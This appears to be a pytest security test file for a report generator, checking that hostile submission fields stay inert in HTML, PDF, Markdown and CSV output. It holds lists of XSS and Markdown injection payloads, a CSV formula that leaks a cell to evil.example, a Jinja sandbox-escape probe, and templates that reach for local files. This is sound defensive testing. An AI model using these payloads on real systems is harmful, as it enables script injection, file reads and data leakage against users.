"""Issue 6, injection: whatever a submission says reaches the readers of HTML, PDF, Markdown and CSV
as inert text, and rendering reaches no network and opens no file outside the template folders.

The hostile submission is a shipped example whose every free-text field (subject name, code,
region, version and supplier, the assessing organisation, assessors, notes, owners, reasons,
approvers, evidence titles and URLs) carries an attack with a tag naming the field, so that each
can be found again. tests/reports covers the escaping functions one by one; this file goes through
the real commands, end to end.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from hostile_helpers import EXAMPLES, OpenWatch
from markdown_it import MarkdownIt
from pypdf import PdfReader

from aiassure.cli import main
from aiassure.registry.export import TABLES, write_csv

HTML_ATTACKS = [
    '<script>alert("{t}")</script>',
    '"><img src=x onerror=alert(1)>{t}',
    "'><svg onload=alert(1)>{t}",
    "</td></tr></table><h1>{t}</h1>",
    '<a href="javascript:alert(1)">{t}</a>',
    '<iframe src="file:///etc/passwd">{t}',
    "<style>@import url(http://127.0.0.1:9/x.css)</style>{t}",
    '<base href="http://evil.example/">{t}',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">{t}',
    '<object data="data:text/html,<script>alert(1)</script>">{t}',
    "<link rel=stylesheet href=file:///etc/passwd>{t}",
    "<form action=javascript:alert(1)><input>{t}",
    "{{{{ 7 * 7 }}}}{t}{{% raw %}}",
    "&lt;script&gt;{t}&amp;&#x3C;b>",
]
MARKDOWN_ATTACKS = [
    "[x]: javascript:alert(1)\n[x] {t}",  # a reference definition, then its use
    "[x]: <javascript:alert(1)> 'title'\n[x][] {t}",
    "<javascript:alert(1)> {t}",  # autolinks
    "<https://evil.example/{t}>",
    "<!-- {t}",  # an unclosed comment would hide the rest of the document
    "```\n{t}",  # and so would an unclosed fence
    "a | b | {t}\n|---|---|\n| c | d |",  # a table inside a table cell
    "![img](https://evil.example/i.png) {t}",
    "[link](javascript:alert(1)) {t}",
    "<details open><summary>{t}</summary>",
    "{t}\n===",
    "    indented {t}",
    "[^1]: footnote {t}\n\\<b>\\</b>",
]
ATTACKS = HTML_ATTACKS + MARKDOWN_ATTACKS
BASE = EXAMPLES / "2026-Q4" / "PRD-BEDFLOW.yaml"  # a technology with an `na` answer, its reason and approver
FORMULAS = {  # CSV formula injection, field by field (the report fields keep their HTML attacks)
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "code": "+1+1",
    "region": "-2",
    "assessed_by": {"name": "@SUM(1)", "code": "=1+1"},
}

MULTILINE = ("notes", "reason")  # the free-text fields that may span lines


def hostile_submission(folder: Path) -> tuple[Path, list[str]]:
    """The base example with an attack in every free-text field; returns its path and the attacks
    as written (each holds a unique tag such as NOTES17)."""
    data = yaml.safe_load(BASE.read_text(encoding="utf-8"))
    written: list[str] = []

    def attack(field: str) -> str:
        text = ATTACKS[len(written) % len(ATTACKS)].format(t=f"{field.upper()}{len(written):02d}")
        if field not in MULTILINE:  # a line break is refused in a one-line field (assessments.limits)
            text = text.replace("\n", " ")
        written.append(text)
        return text

    subject = data["subject"]
    for field in ("name", "code", "region", "version"):
        subject[field] = attack(field)
    subject["supplier"]["name"] = attack("supplier")
    data["assessed_by"] = {"name": attack("assessing"), "code": attack("assessingcode"), "org_type": "acute"}
    data["assessors"] = [{"name": attack("assessor"), "role": attack("role")} for _ in range(2)]
    for answer in data["answers"].values():
        if not isinstance(answer, dict):
            continue
        for field in ("notes", "owner", *(f for f in ("reason", "approved_by") if f in answer)):
            answer[field] = attack(field)
        for item in answer.get("evidence", []):
            item["title"] = attack("title")
            if "url" in item:  # still an https address, so it stays a link: with quotes, brackets and markup
                item["url"] += "\"'><script>alert(1)</script>?q=<b>&x=`y`|[z](javascript:alert(1))"
    assert {"reason", "approved_by"} <= {k for a in data["answers"].values() if isinstance(a, dict) for k in a}
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "evidence").mkdir(exist_ok=True)
    path = folder / "hostile.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True), encoding="utf-8")
    return path, written


def run(*args: object) -> Any:
    result = CliRunner().invoke(main, [str(a) for a in args])
    assert "Traceback" not in result.output and "internal error" not in result.output, result.output
    return result


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[str]]:
    return hostile_submission(tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module")
def html_and_markdown(hostile: tuple[Path, list[str]], tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """The hostile submission's HTML and Markdown reports, and the HTML of the example it came from."""
    out = tmp_path_factory.mktemp("reports")
    assert run("report", hostile[0], "-o", out / "hostile", "--format", "html,md").exit_code == 0
    assert run("report", BASE, "-o", out / "clean", "--format", "html").exit_code == 0
    [html] = (out / "hostile").glob("*.html")
    [markdown] = (out / "hostile").glob("*.md")
    [clean] = (out / "clean").glob("*.html")
    return {"html": html.read_text(), "md": markdown.read_text(), "clean": clean.read_text()}


# -- HTML ------------------------------------------------------------------------------------------


class Parsed(HTMLParser):
    """The elements (tag and attributes), comments and visible text of an HTML document."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.comments: list[str] = []
        self.text: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def shape(self) -> set[tuple[str, tuple[str, ...]]]:
        return {(tag, tuple(sorted(attrs))) for tag, attrs in self.elements}

    def visible(self) -> str:
        return squeeze("".join(self.text))


def squeeze(text: str) -> str:
    """Text without any whitespace: line wrapping in PDFs and <br> in Markdown cannot hide a match."""
    return "".join(text.split())


def active_content(parsed: Parsed) -> list[str]:
    """Anything in an HTML document that runs, loads or navigates somewhere other than the web."""
    found = []
    for tag, attrs in parsed.elements:
        if tag in ("script", "iframe", "object", "embed", "img", "form", "input", "base", "link", "details"):
            found.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in attrs:
            found.append("<meta http-equiv>")
        found += [f"<{tag} {name}>" for name in attrs if name.startswith("on")]
        for name in ("href", "src", "action", "data", "formaction", "xlink:href"):
            value = attrs.get(name)
            if value is not None and not (value.startswith("#") or re.match(r"https?://[^/\s]", value)):
                found.append(f"<{tag} {name}={value!r}>")
    return found


def test_html_report_escapes_every_field(html_and_markdown: dict[str, str], hostile: tuple[Path, list[str]]) -> None:
    parsed, clean = Parsed(html_and_markdown["html"]), Parsed(html_and_markdown["clean"])
    assert active_content(parsed) == []
    assert parsed.shape() <= clean.shape(), parsed.shape() - clean.shape()  # no element or attribute of its own
    assert parsed.comments == clean.comments
    text = parsed.visible()
    assert [attack for attack in hostile[1] if squeeze(attack) not in text] == []  # shown as typed


def test_portfolio_html_escapes_every_field(hostile_registry: str, tmp_path: Path) -> None:
    assert run("portfolio", "report", "-o", tmp_path, "--format", "html", "--db", hostile_registry).exit_code == 0
    parsed = Parsed((tmp_path / "portfolio.html").read_text())
    assert active_content(parsed) == []
    assert parsed.comments == []
    shown = parsed.visible()
    assert "NAME00" in shown and squeeze(ATTACKS[0].format(t="NAME00")) in shown
    assert squeeze(FORMULAS["name"]) in shown


# -- PDF -------------------------------------------------------------------------------------------


@pytest.mark.slow
def test_pdf_report_shows_every_field_literally_and_links_only_to_the_web(
    hostile: tuple[Path, list[str]], tmp_path: Path
) -> None:
    assert run("report", hostile[0], "-o", tmp_path, "--format", "pdf").exit_code == 0
    [pdf] = tmp_path.glob("*.pdf")
    reader = PdfReader(pdf)
    text = squeeze(" ".join(page.extract_text() or "" for page in reader.pages))
    assert [attack for attack in hostile[1] if squeeze(attack) not in text] == []
    links = []
    for page in reader.pages:
        assert "/AA" not in page  # no page actions
        for annotation in page.get("/Annots") or []:
            annotation = annotation.get_object()
            assert annotation["/Subtype"] == "/Link", annotation
            action = annotation.get("/A")
            if action is None:
                assert "/Dest" in annotation  # a link inside the document
                continue
            assert action["/S"] == "/URI", action  # no /Launch, /JavaScript, /SubmitForm, /GoToR ...
            links.append(str(action["/URI"]))
    assert links and [uri for uri in links if not re.match(r"https?://[^/\s]+/", uri)] == []
    assert [uri for uri in links if re.search(r"[\s\"<>`]", uri)] == []  # percent-encoded (' is legal in a URL)
    root = reader.trailer["/Root"]
    assert not {"/OpenAction", "/AA", "/AcroForm"} & set(root) and "/JavaScript" not in root["/Names"]


# -- Markdown --------------------------------------------------------------------------------------

MARKDOWN_TAGS = set("h1 h2 h3 p br wbr ul ol li table thead tbody tr th td strong em code a".split())


def test_markdown_report_is_inert(html_and_markdown: dict[str, str], hostile: tuple[Path, list[str]]) -> None:
    """Rendered as GitHub would (raw HTML allowed, tables): only the report's own structure, links
    to http(s) addresses only, every attack visible as typed, every table row whole."""
    markdown = html_and_markdown["md"]
    rendered = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown)
    parsed = Parsed(rendered)
    assert {tag for tag, _ in parsed.elements} <= MARKDOWN_TAGS
    assert parsed.comments == [] and "<!--" not in rendered
    hrefs = [attrs["href"] for tag, attrs in parsed.elements if tag == "a"]
    assert hrefs and [h for h in hrefs if not re.match(r"https?://[^/\s]", h)] == []
    assert sum(1 for tag, _ in parsed.elements if tag == "h1") == 1
    assert [attack for attack in hostile[1] if squeeze(attack) not in parsed.visible()] == []
    for table in re.findall(r"((?:^\|.*\|\n)+)", markdown, re.M):
        widths = {len(re.findall(r"(?<!\\)\|", row)) for row in table.splitlines()}
        assert len(widths) == 1, table
    assert not re.search(r"^\s{0,3}(\[[^\]]*\]:|```|~~~|<)", markdown, re.M)  # no definition, fence or HTML block


# -- CSV -------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_registry(hostile: tuple[Path, list[str]], tmp_path_factory: pytest.TempPathFactory) -> str:
    """A SQLite registry holding the hostile technology and an organisation whose name, code,
    region and assessing organisation are spreadsheet formulas."""
    folder = tmp_path_factory.mktemp("formulas")
    data = yaml.safe_load((EXAMPLES / "2026-Q4" / "RX1.yaml").read_text(encoding="utf-8"))
    data["subject"].update(name=FORMULAS["name"], code=FORMULAS["code"], region=FORMULAS["region"])
    data["assessed_by"] = FORMULAS["assessed_by"]
    (folder / "formulas.yaml").write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
    url = f"sqlite:///{folder / 'registry.db'}"
    result = run("registry", "ingest", folder / "formulas.yaml", hostile[0], "--db", url)
    assert result.exit_code == 0, result.output
    return url


FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.mark.parametrize("table", list(TABLES))
def test_csv_export_neutralises_formulas_and_keeps_numbers(hostile_registry: str, table: str, tmp_path: Path) -> None:
    to_stdout = run("portfolio", "export", "--format", "csv", "--table", table, "--db", hostile_registry)
    target = tmp_path / "export.csv"
    to_file = run("portfolio", "export", "--format", "csv", "--table", table, "-o", target, "--db", hostile_registry)
    assert to_stdout.exit_code == to_file.exit_code == 0
    assert target.read_text() == to_stdout.stdout
    rows = list(csv.DictReader(io.StringIO(to_stdout.stdout)))
    columns = TABLES[table]
    assert rows and list(rows[0]) == list(columns)
    for row in rows:
        for name, kind in columns.items():
            cell = row[name]
            if kind in ("int64", "float64"):
                assert cell == "" or float(cell) == float(cell), (name, cell)  # a number, as a number
            elif kind == "bool":
                assert cell in ("true", "false")
            else:
                assert not cell.startswith(FORMULA_START), (name, cell)
    formulas = next(r for r in rows if r["subject_name"].endswith('Click")'))
    assert formulas["subject_name"] == "'" + FORMULAS["name"]
    assert (formulas["subject_code"], formulas["region"], formulas["assessed_by_code"]) == ("'+1+1", "'-2", "'=1+1")
    if table == "submissions":
        assert formulas["assessed_by_name"] == "'@SUM(1)"


def test_numbers_stay_numbers_and_text_that_looks_like_one_does_not() -> None:
    """The rule: numeric columns are written as numbers, never prefixed (a spreadsheet reads -2.5 as
    a number and runs nothing); a text cell is prefixed whenever it starts like a formula, even
    when the text is `-2`: it is text, and a spreadsheet would otherwise turn it into a number."""
    row = {name: None for name in TABLES["scores"]} | {"score": -2.5, "level": -1, "subject_code": "-2", "scope": "\tx"}
    out = io.StringIO()
    write_csv(iter([row]), list(TABLES["scores"]), out)
    cells = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert (cells["score"], cells["level"], cells["subject_code"], cells["scope"]) == ("-2.5", "-1", "'-2", "'\tx")


def test_jsonl_and_parquet_keep_the_text_as_it_is(hostile_registry: str, tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    lines = run("portfolio", "export", "--format", "jsonl", "--db", hostile_registry).stdout.splitlines()
    target = tmp_path / "export.parquet"
    assert run("portfolio", "export", "--format", "parquet", "-o", target, "--db", hostile_registry).exit_code == 0
    for rows in ([json.loads(line) for line in lines], pq.read_table(target).to_pylist()):
        formulas = next(r for r in rows if r["subject_code"] == FORMULAS["code"])
        assert (formulas["subject_name"], formulas["region"], formulas["assessed_by_name"]) == (
            FORMULAS["name"],
            "-2",
            "@SUM(1)",
        )


def test_portfolio_templates_are_sandboxed_too(hostile_registry: str, tmp_path: Path) -> None:
    templates = tmp_path / "templates"
    templates.mkdir()
    escape = "{{ sections.__class__.__mro__ }}"
    (templates / "portfolio.html").write_text(
        f'{{% extends "default:portfolio.html" %}}{{% block masthead %}}\n{escape}{{% endblock %}}'
    )
    out = tmp_path / "out"
    result = run(
        "portfolio", "report", "-o", out, "--format", "html", "--template-dir", templates, "--db", hostile_registry
    )
    assert result.exit_code == 1 and "portfolio.html:2" in result.output and "template refused" in result.output
    assert not (out / "portfolio.html").exists()


# -- no network, no file outside the template folders ----------------------------------------------


def hostile_templates(folder: Path, base: str, outside: Path) -> Path:
    """report.html and portfolio.html extending the built-ins, reaching for the local server and
    for the canaries in every way HTML, CSS, SVG and Jinja allow, plus links to the canaries."""
    canary, page = outside / "canary.txt", outside / "canary.html"
    urls = [
        f"{base}/{{kind}}",
        f"//127.0.0.1:{base.rsplit(':', 1)[1]}/{{kind}}",
        canary.as_uri(),
        f"file://localhost{canary}",
        (outside / "canary.fifo").as_uri(),
        f"../{outside.name}/canary.txt",  # relative to the template folder
        "linked.txt",  # a symbolic link in the template folder to the canary
    ]
    head, imports, css, body = [], [], [], []
    for url in urls:
        head.append(f'<link rel="stylesheet" href="{url.format(kind="style.css")}">')
        head.append(f'<link rel="attachment" href="{url.format(kind="attach.bin")}">')
        imports.append(f"@import url({url.format(kind='import.css')});")  # only at the start of a style sheet
        css.append(f"@font-face {{ font-family: x; src: url({url.format(kind='font.woff')}); }}")
        css.append(f".masthead {{ background: url({url.format(kind='bg.png')}); }}")
        body.append(f'<img src="{url.format(kind="img.png")}" alt="">')
        body.append(
            f'<object data="{url.format(kind="object.svg")}"></object><embed src="{url.format(kind="embed.png")}">'
        )
        body.append(f'<iframe src="{url.format(kind="frame.html")}"></iframe>')
        body.append(
            f'<svg width="10" height="10"><image href="{url.format(kind="svg.png")}" width="10" height="10"/></svg>'
        )
    includes = [
        str(page),
        str(page).lstrip("/"),
        f"../{outside.name}/canary.html",
        "default:../../canary.html",
        "_linked.html",
    ]
    body += [f'{{% include "{name}" ignore missing %}}' for name in includes]
    folder.mkdir()
    (folder / "linked.txt").symlink_to(canary)
    (folder / "_linked.html").symlink_to(page)
    blocks = (
        f"{{% block meta %}}{{{{ super() }}}}{''.join(head)}<style>{' '.join(imports)}</style>{{% endblock %}}"
        f"{{% block styles %}}{{{{ super() }}}}{' '.join(css)}{{% endblock %}}"
        f"{{% block masthead %}}{{{{ super() }}}}{''.join(body)}{{% endblock %}}"
    )
    for name in ("report.html", "portfolio.html"):
        (folder / name).write_text(f'{{% extends "default:{name}" %}}{blocks}')
    return folder


@pytest.mark.slow
def test_rendering_reaches_no_network_and_opens_no_file_outside_the_template_folders(
    tmp_path: Path, local_server: tuple[str, list[str]]
) -> None:
    """Canaries (a file, a page and a FIFO) outside every allowed folder, named by the templates in
    every way they can, and by evidence paths; HTML, PDF and Markdown reports and the portfolio in
    HTML and PDF are rendered for real: nothing is requested from the server, and inotify and the
    FIFO watcher see no canary opened, by any process."""
    base, requests = local_server
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "canary.txt").write_text("secret")
    (outside / "canary.html").write_text("SECRET-TEMPLATE")
    os.mkfifo(outside / "canary.fifo")
    templates = hostile_templates(tmp_path / "templates", base, outside)

    folder = tmp_path / "submissions"
    (folder / "evidence").mkdir(parents=True)
    os.mkfifo(folder / "evidence" / "pipe.pdf")  # inside the folder: its SHA-256 is not checked by reading it
    (folder / "evidence" / "link.pdf").symlink_to(outside / "canary.txt")
    text = (EXAMPLES / "2026-Q4" / "RX1.yaml").read_text(encoding="utf-8")
    text, found = re.subn(r"url: '?https://[^,}']+'?", f"url: '{base}/evidence.pdf'", text, count=1)
    assert found == 1
    zeros = "0" * 64
    evidence = {
        "good": f"evidence/pipe.pdf, sha256: '{zeros}'",
        "escape": f"../outside/canary.txt, sha256: '{zeros}'",
        "symlink": f"evidence/link.pdf, sha256: '{zeros}'",
    }
    for name, path in evidence.items():
        (folder / f"{name}.yaml").write_text(
            re.sub(r"path: evidence/\S+?,", f"path: {path},", text, count=1), encoding="utf-8"
        )

    pipe = folder / "evidence" / "pipe.pdf"
    watch = OpenWatch([outside, pipe], fifos=[outside / "canary.fifo", pipe])
    try:
        # The watchers do see an open, by this process or any other, and a reader of a FIFO.
        (outside / "canary.txt").read_bytes()
        reader = os.open(outside / "canary.fifo", os.O_RDONLY | os.O_NONBLOCK)
        watch.settle()
        os.close(reader)
        assert any(e.endswith("canary.txt") for e in watch.events()) and watch.fifo_readers
        watch.fifo_readers.clear()
        watch.events()

        out = tmp_path / "out"
        inputs = [folder / f"{name}.yaml" for name in evidence]
        report = run("report", *inputs, "-o", out, "--format", "html,pdf,md", "--template-dir", templates)
        assert report.exit_code == 1  # the two submissions whose evidence leaves their folder are refused
        assert report.output.count("error evidence-path") == 2 and "escapes the submission's folder" in report.output
        validated = run("validate", folder / "good.yaml")
        assert validated.exit_code == 0 and "warning evidence-missing" in validated.output  # a FIFO is not read
        db = f"sqlite:///{tmp_path / 'registry.db'}"
        assert run("registry", "ingest", folder / "good.yaml", "--db", db).exit_code == 0
        portfolio = run("portfolio", "report", "-o", out, "--template-dir", templates, "--db", db)
        assert portfolio.exit_code == 0, portfolio.output
        watch.settle()
        assert watch.events() == [] and watch.fifo_readers == []
    finally:
        watch.close()
    assert requests == []
    rendered = sorted(p.name for p in out.iterdir())
    assert rendered == ["RX1-2026-Q4.html", "RX1-2026-Q4.md", "RX1-2026-Q4.pdf", "portfolio.html", "portfolio.pdf"]
    for html in ("RX1-2026-Q4.html", "portfolio.html"):  # the templates were the ones used
        page = (out / html).read_text()
        assert f'<img src="{base}/img.png"' in page and (outside / "canary.txt").as_uri() in page
        assert "SECRET-TEMPLATE" not in page
    assert f"{base}/evidence.pdf" in (out / "RX1-2026-Q4.html").read_text()  # the evidence URL is a link, never fetched
